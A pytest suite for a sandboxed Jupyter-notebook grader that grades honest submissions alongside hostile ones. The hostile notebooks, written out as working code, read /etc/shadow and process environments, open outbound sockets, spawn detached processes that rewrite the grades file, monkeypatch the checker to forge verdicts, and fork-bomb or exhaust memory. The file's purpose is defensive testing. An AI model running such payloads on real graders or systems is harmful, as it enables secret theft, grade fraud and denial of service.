"""The grader against hostile submissions: each attack of issue 19 in one class, graded by the real
command.

Why one run: a class of honest students and attackers graded together (``--jobs 2``) is what a
teacher does, and it shows at once that attackers gain nothing, that honest students keep their
scores, and that nothing an attacker read or wrote reaches any output. A secret is planted in the
grader's HOME, beside the submissions and in the repository's registry path the attackers try;
it must appear in no output. The attackers are small notebooks (fast); the honest students hand
in the collection's notebook 03, right and wrong, never run.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import secrets
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from helpers.exercises import expected, registry
from workers_abroad.classroom.exercise_cells import find_exercises
from workers_abroad.classroom.grade import FIELDS, SANDBOXED, UNSANDBOXED
from workers_abroad.publishing.notebooks import ROOT, notebook_paths

NOTEBOOK = next(p for p in notebook_paths() if p.name.startswith("03-"))
IDS = sorted(i for i in registry() if i.startswith("03."))
TOKEN = secrets.token_hex(8)
SECRET = f"TOP-SECRET-{TOKEN}"
CHECKS = "\n".join(f'check("{i}", answer_{n})' for n, i in enumerate(IDS, start=1))
PLACEHOLDER = re.compile(r"^(?P<name>answer_\w+)\s*=\s*\.\.\.", flags=re.M)


def literal(value: object) -> str:
    if isinstance(value, dt.date):
        return repr(value.isoformat())
    return repr(value)


def right_answers() -> dict[str, str]:
    """answer_1.. of notebook 03 as a student would type them, from the
    registry (the test's side)."""
    variables = {
        e.exercise_id: e.variable for e in find_exercises(nbformat.read(NOTEBOOK, as_version=4))
    }
    return {variables[i]: literal(expected(i)) for i in IDS}


def filled(answers: dict[str, str]) -> nbformat.NotebookNode:
    """Notebook 03 with its placeholders replaced and no outputs: grading must run it."""
    notebook = nbformat.read(NOTEBOOK, as_version=4)
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.source = PLACEHOLDER.sub(
                lambda m: f"{m['name']} = {answers[m['name']]}", cell.source
            )
            cell.outputs, cell.execution_count = [], None
    return notebook


def small(*cells: str, kernel: str = "python3") -> nbformat.NotebookNode:
    """A short notebook: the attack's cells, then the three check cells of notebook 03."""
    notebook = nbformat.v4.new_notebook()
    notebook.cells = [nbformat.v4.new_code_cell(textwrap.dedent(c)) for c in cells]
    notebook.cells.append(
        nbformat.v4.new_code_cell("from helpers.exercises import check\n" + CHECKS)
    )
    notebook.metadata["kernelspec"] = {"name": kernel, "display_name": kernel, "language": "python"}
    return notebook


def attacks(paths: dict[str, Path], port: int) -> dict[str, nbformat.NotebookNode]:
    """One submission per kind of attack of issue 19; each tries to leak SECRET and score."""
    leak = f"""
        def leak(found):
            import builtins, os
            text = str(found)
            builtins.print(text)
            try:
                open("{paths["loot"]}", "w").write(text)
            except Exception as error:
                builtins.print("cannot write", error)
            raise RuntimeError(text[:200])

        leak(answer_1)
    """
    read_all = f"""
        found = []
        for path in [
            "{paths["home_secret"]}",
            "{paths["beside"]}",
            "{ROOT / "helpers" / "exercises.py"}",
            "/etc/shadow",
            "/root/.bash_history",
            "/proc/1/environ",
        ]:
            try:
                found.append(open(path).read()[:500])
            except Exception as error:
                found.append(type(error).__name__)
        answer_1 = answer_2 = answer_3 = " ".join(found)
    """
    rewrite = f"""
        import subprocess, sys, os, textwrap
        script = textwrap.dedent('''
            import time, os
            time.sleep(4)
            for path in ["{paths["csv"]}", "{paths["loot"]}"]:
                try:
                    open(path, "w").write("mallory,03-the-visa-surge,03.1,1,1,Correct.\\\\n")
                except Exception:
                    pass
            # wa-detached-{TOKEN}
        ''')
        subprocess.Popen(
            [sys.executable, "-c", script],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        if os.fork() == 0:
            os.setsid()
            exec(script)
            os._exit(0)
        answer_1 = answer_2 = answer_3 = 0
    """
    neighbour = f"""
        import glob, os
        found = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    found.append(open(f"/proc/{{pid}}/cmdline").read())
                except Exception:
                    pass
        found += glob.glob("/tmp/**/*.json", recursive=True) + glob.glob("/scratch/run/*")
        for path in ["{paths["alice"]}", "{paths["submissions"]}"]:
            try:
                found.append(
                    open(path).read()[:300] if os.path.isfile(path) else str(os.listdir(path))
                )
            except Exception as error:
                found.append(type(error).__name__)
        from jupyter_client import find_connection_file
        try:
            found.append(
                find_connection_file(
                    "kernel-*.json", path=["/tmp", "/root/.local/share/jupyter/runtime"]
                )
            )
        except Exception as error:
            found.append(type(error).__name__)
        answer_1 = answer_2 = answer_3 = " | ".join(found)[:190]
    """
    sock = f"""
        import socket
        tried = []
        for host, port in [
            ("127.0.0.1", {port}),
            ("10.0.2.2", {port}),
            ("pypi.org", 443),
            ("1.1.1.1", 80),
        ]:
            try:
                with socket.create_connection((host, port), timeout=3) as connection:
                    connection.sendall(b"sandbox-{TOKEN}")
                    tried.append("connected")
            except Exception as error:
                tried.append(type(error).__name__)
        answer_1 = answer_2 = answer_3 = ",".join(tried)
    """
    right = right_answers()
    registry_attack = """
        answer_1 = answer_2 = answer_3 = None
        try:
            from helpers.exercises import expected
            answer_1, answer_2, answer_3 = expected("03.1"), expected("03.2"), expected("03.3")
        except Exception as error:
            print(error)
        try:
            import workers_abroad.classroom.grade
        except Exception as error:
            print(error)
        from helpers.exercises import check
        for guess in range(0, 1000):  # try answers against the check: it confirms nothing here
            if check("03.1", guess / 100).correct:
                answer_1 = guess / 100
    """
    patch = """
        import builtins, json
        import helpers.exercises as exercises
        from helpers.selfcheck import Feedback
        exercises.check = lambda *a, **k: Feedback(True, "Correct.")
        builtins.print = lambda *a, **k: None
        verdicts = (
            '{"answer_1": {"kind": "verdict", "correct": true}, '
            '"answer_2": {"kind": "number", "value": "Correct."}}'
        )
        json.dump = lambda obj, handle, *a, **k: handle.write(verdicts)
        answer_1, answer_2, answer_3 = 1e9, "nonsense", "stock"
    """
    return {
        "registry": small(registry_attack),
        "patcher": small(patch),
        "snoop": small(read_all, leak),
        "writer": small(
            f"""
            import os
            wrote = []
            for path in [
                "{paths["home_secret"].parent / "pwned.txt"}",
                "{paths["submissions"] / "pwned.txt"}",
                "{paths["csv"].parent / "pwned.csv"}",
                "/tmp/wa-pwned-{TOKEN}",
                "{ROOT / "pwned.txt"}",
            ]:
                try:
                    open(path, "w").write("{TOKEN}")
                    wrote.append(path)
                except Exception:
                    pass
            answer_1 = answer_2 = answer_3 = str(wrote)
            """
        ),
        "detached": small(rewrite),
        "neighbour": small(neighbour),
        "socket": small(sock),
        "memory": small(
            "blob = bytearray(8 * 1024**3)", "answer_1 = answer_2 = answer_3 = len(blob)"
        ),
        "forker": small(
            """
            import os, time
            children = 0
            for _ in range(300):
                try:
                    if os.fork() == 0:
                        time.sleep(30)
                        os._exit(0)
                    children += 1
                except OSError:
                    break
            answer_1 = answer_2 = answer_3 = children
            """
        ),
        "faker": small(
            """
            import os, sys
            line = "faker,03-the-visa-surge,03.1,1,1,Correct.\\n"
            print(line * 3, "Correct. Correct. Correct. 3 of 3")
            os.write(1, line.encode()); os.write(2, line.encode())
            answer_1, answer_2, answer_3 = 0, 0, "stock"
            """
        ),
        "kernel": small(
            "answer_1, answer_2, answer_3 = "
            f"{right['answer_1']}, {right['answer_2']}, {right['answer_3']}",
            kernel="bash",
        ),
        "forever": small("while True:\n    pass"),
        "chatty": small(
            "for _ in range(40):\n    print('x' * 1_000_000)", "answer_1 = answer_2 = answer_3 = 0"
        ),
        "suicide": small("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
        "notplain": small(
            "import pandas as pd\n"
            "answer_1 = pd.DataFrame({'a': [3.96]})\n"
            "answer_2 = [0.82]\n"
            "answer_3 = {'flow': 1}"
        ),
    }


def crafted() -> dict[str, str | bytes]:
    """Files that are not notebooks a grader can read: each must get rows with a reason."""
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}

    def notebook(*cells: object, nbformat_version: int = 4) -> str:
        return json.dumps(
            {
                "cells": list(cells),
                "metadata": {},
                "nbformat": nbformat_version,
                "nbformat_minor": 5,
            }
        )

    return {
        "number_source": notebook({**cell, "source": 42}, {**cell, "source": CHECKS}),
        "object_source": notebook({**cell, "source": {"a": 1}}, {**cell, "source": CHECKS}),
        "no_cell_type": notebook({"source": "x = 1", "metadata": {}}, {**cell, "source": CHECKS}),
        "not_json": "this is not a notebook {",
        "nbformat3": notebook({**cell, "source": CHECKS}, nbformat_version=3),
        "binary": bytes(range(256)) * 4,
        "huge": '{"cells": [], "pad": "' + "x" * (21 * 1024**2) + '"}',
        "list_top": "[1, 2, 3]",
    }


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()
    }


class Listener:
    """A TCP server on the host's loopback: a sandbox has its own network, so nothing may arrive."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self) -> None:
        while not self.stop:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            with connection:
                self.received.append(connection.recv(1024) or b"(connected)")

    def close(self) -> None:
        self.stop = True
        self.thread.join(timeout=5)
        self.server.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, object]:
    """The class graded once: rows by student and exercise, the CSV's bytes, outputs and paths."""
    base = tmp_path_factory.mktemp("grade-sandbox")
    home = base / "home"
    home.mkdir()
    submissions = base / "submissions"
    out = base / "out" / "grades.csv"
    paths = {
        "home_secret": home / "secret.txt",
        "beside": base / "answers-key.txt",
        "submissions": submissions,
        "alice": submissions / "alice" / NOTEBOOK.name,
        "csv": out,
        "loot": base / "loot.txt",
    }
    paths["home_secret"].write_text(SECRET)
    paths["beside"].write_text(SECRET)
    listener = Listener()

    def submit(student: str, content: nbformat.NotebookNode | str | bytes) -> None:
        target = submissions / student / NOTEBOOK.name
        target.parent.mkdir(parents=True)
        if isinstance(content, bytes):
            target.write_bytes(content)
        elif isinstance(content, str):
            target.write_text(content, encoding="utf-8")
        else:
            nbformat.write(content, target)

    submit("alice", filled(right_answers()))
    submit("bob", filled({name: "0" for name in right_answers()}))
    attackers = attacks(paths, listener.port)
    for student, notebook in attackers.items():
        submit(student, notebook)
    for student, text in crafted().items():
        submit(student, text)
    before_outside = snapshot(base)
    before_tmp = {
        p.name for p in Path("/tmp").iterdir() if p.name.startswith(("wa-grade-", "wa-scratch-"))
    }
    env = {**os.environ, "HOME": str(home)}
    started = time.monotonic()
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "workers_abroad.classroom.grade",
            str(submissions),
            "--out",
            str(out),
            "--jobs",
            "2",
            "--timeout",
            "60",
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
    )
    elapsed = time.monotonic() - started
    written = out.read_bytes()
    time.sleep(6)  # the detached writers wake after 4 s: they must be gone
    listener.close()
    rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    table: dict[str, dict[str, dict[str, str]]] = {}
    for row in rows:
        table.setdefault(row["student"], {})[row["exercise"]] = row
    return {
        "done": done,
        "table": table,
        "header": tuple(rows[0].keys()) if rows else (),
        "written": written,
        "after": out.read_bytes(),
        "base": base,
        "before_outside": before_outside,
        "before_tmp": before_tmp,
        "paths": paths,
        "received": listener.received,
        "elapsed": elapsed,
        "attackers": sorted(attackers),
    }


def test_the_command_succeeds_with_a_row_per_student_and_exercise(graded):
    done = graded["done"]
    assert done.returncode == 0, done.stderr[-3000:]
    assert graded["header"] == FIELDS
    expected_students = {"alice", "bob", *graded["attackers"], *crafted()}
    assert set(graded["table"]) == expected_students
    for student, rows in graded["table"].items():
        assert sorted(rows) == IDS, student
        assert {r["isolation"] for r in rows.values()} == {SANDBOXED}, student
    assert f"of {len(expected_students)}]" in done.stdout  # progress "N of M"
    assert "Per student:" in done.stdout and "  alice: 3 of 3" in done.stdout


def test_honest_students_keep_their_scores(graded):
    table = graded["table"]
    assert [float(table["alice"][i]["score"]) for i in IDS] == [1, 1, 1]
    assert all(table["alice"][i]["reason"] == "Correct." for i in IDS)
    assert [float(table["bob"][i]["score"]) for i in IDS] == [0, 0, 0]
    assert "too low" in table["bob"]["03.1"]["reason"]


def test_the_kernel_is_always_pythons_whatever_the_file_names(graded):
    assert [float(graded["table"]["kernel"][i]["score"]) for i in IDS] == [1, 1, 1]


@pytest.mark.parametrize(
    "student",
    [
        "registry",
        "patcher",
        "snoop",
        "writer",
        "detached",
        "neighbour",
        "socket",
        "memory",
        "forker",
        "faker",
        "forever",
        "chatty",
        "suicide",
        "notplain",
    ],
)
def test_attackers_gain_nothing(graded, student):
    rows = graded["table"][student]
    assert [float(rows[i]["score"]) for i in IDS] == [0, 0, 0], rows
    assert all(rows[i]["reason"] for i in IDS)


def test_reasons_say_what_happened(graded):
    table = graded["table"]
    assert table["forever"]["03.1"]["reason"].startswith("grading stopped"), table["forever"]
    assert "not plain data" in table["notplain"]["03.1"]["reason"].lower(), table["notplain"]
    assert "DataFrame" in table["notplain"]["03.1"]["reason"]
    assert "list" in table["notplain"]["03.2"]["reason"]
    assert "MemoryError" in table["memory"]["03.1"]["reason"], table["memory"]
    assert table["suicide"]["03.1"]["reason"].startswith(("no answers could be read", "Missing")), (
        table["suicide"]
    )
    assert table["registry"]["03.1"]["reason"].startswith("Not answered yet"), table["registry"]


@pytest.mark.parametrize("student", sorted(crafted()))
def test_crafted_files_get_rows_with_a_reason(graded, student):
    rows = graded["table"][student]
    assert [float(rows[i]["score"]) for i in IDS] == [0, 0, 0]
    reason = rows["03.1"]["reason"]
    words = {
        "number_source": "source is not text (it is int)",
        "object_source": "source is not text (it is dict)",
        "no_cell_type": "no cell_type",
        "not_json": "invalid JSON",
        "nbformat3": "nbformat 3",
        "binary": "not UTF-8",
        "huge": "too large",
        "list_top": "no list of cells",
    }
    assert words[student] in reason, reason


def test_nothing_an_attacker_read_reaches_any_output(graded):
    outputs = [graded["after"].decode(), graded["done"].stdout, graded["done"].stderr]
    for text in outputs:
        assert SECRET not in text
    planted = {graded["paths"]["home_secret"], graded["paths"]["beside"]}
    for path in graded["base"].rglob("*"):
        if path.is_file() and path not in planted:
            assert SECRET.encode() not in path.read_bytes(), path
    assert graded["received"] == [], "a sandbox reached the host's loopback"


def test_nothing_is_written_outside_the_sandbox(graded):
    after = snapshot(graded["base"])
    created = set(after) - set(graded["before_outside"])
    assert created == {"out/grades.csv"}, created
    changed = [name for name, data in graded["before_outside"].items() if after.get(name) != data]
    assert changed == [], changed
    assert not Path(f"/tmp/wa-pwned-{TOKEN}").exists()
    assert not (ROOT / "pwned.txt").exists()
    left = {
        p.name for p in Path("/tmp").iterdir() if p.name.startswith(("wa-grade-", "wa-scratch-"))
    }
    assert left <= graded["before_tmp"], left - graded["before_tmp"]


def test_the_csv_does_not_change_after_grading_ends(graded):
    assert graded["after"] == graded["written"]
    processes = subprocess.run(
        ["ps", "-eo", "args"], capture_output=True, text=True, check=True
    ).stdout
    assert f"wa-detached-{TOKEN}" not in processes


def test_grading_time_stays_modest(graded):
    assert graded["elapsed"] < 400, graded["elapsed"]


# ---------------------------------------------------------------- refusals


def run_grade(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "workers_abroad.classroom.grade", *args],
        cwd=ROOT,
        env={**os.environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=300,
    )


def test_a_missing_or_empty_folder_is_an_error(tmp_path: Path):
    missing = run_grade(str(tmp_path / "nope"), "--out", str(tmp_path / "a.csv"))
    assert missing.returncode != 0 and "no such file or folder" in missing.stderr
    (tmp_path / "empty").mkdir()
    empty = run_grade(str(tmp_path / "empty"), "--out", str(tmp_path / "b.csv"))
    assert empty.returncode != 0 and "no .ipynb file" in empty.stderr
    assert not (tmp_path / "a.csv").exists() and not (tmp_path / "b.csv").exists()


def test_an_existing_sheet_is_never_overwritten_without_force(tmp_path: Path):
    folder = tmp_path / "subs" / "zoe"
    folder.mkdir(parents=True)
    (folder / NOTEBOOK.name).write_text("not a notebook", encoding="utf-8")
    out = tmp_path / "grades.csv"
    out.write_text("earlier grades\n", encoding="utf-8")
    refused = run_grade(str(tmp_path / "subs"), "--out", str(out))
    assert refused.returncode != 0 and "--force" in refused.stderr
    assert out.read_text(encoding="utf-8") == "earlier grades\n"
    forced = run_grade(str(tmp_path / "subs"), "--out", str(out), "--force")
    assert forced.returncode == 0, forced.stderr
    assert out.read_text(encoding="utf-8").startswith(",".join(FIELDS))


def test_without_bwrap_grading_refuses_and_says_what_to_install(tmp_path: Path):
    folder = tmp_path / "subs" / "zoe"
    folder.mkdir(parents=True)
    nbformat.write(small("answer_1 = answer_2 = answer_3 = 0"), folder / NOTEBOOK.name)
    out = tmp_path / "grades.csv"
    refused = run_grade(
        str(tmp_path / "subs"), "--out", str(out), env={"WA_BWRAP": str(tmp_path / "no-bwrap")}
    )
    assert refused.returncode != 0
    assert (
        "apt-get install bubblewrap" in refused.stderr
        and "--no-sandbox-i-understand" in refused.stderr
    )
    assert not out.exists()
    anyway = run_grade(
        str(tmp_path / "subs"),
        "--out",
        str(out),
        "--no-sandbox-i-understand",
        env={"WA_BWRAP": str(tmp_path / "no-bwrap")},
    )
    assert anyway.returncode == 0, anyway.stderr
    rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert len(rows) == 3 and {r["isolation"] for r in rows} == {UNSANDBOXED}
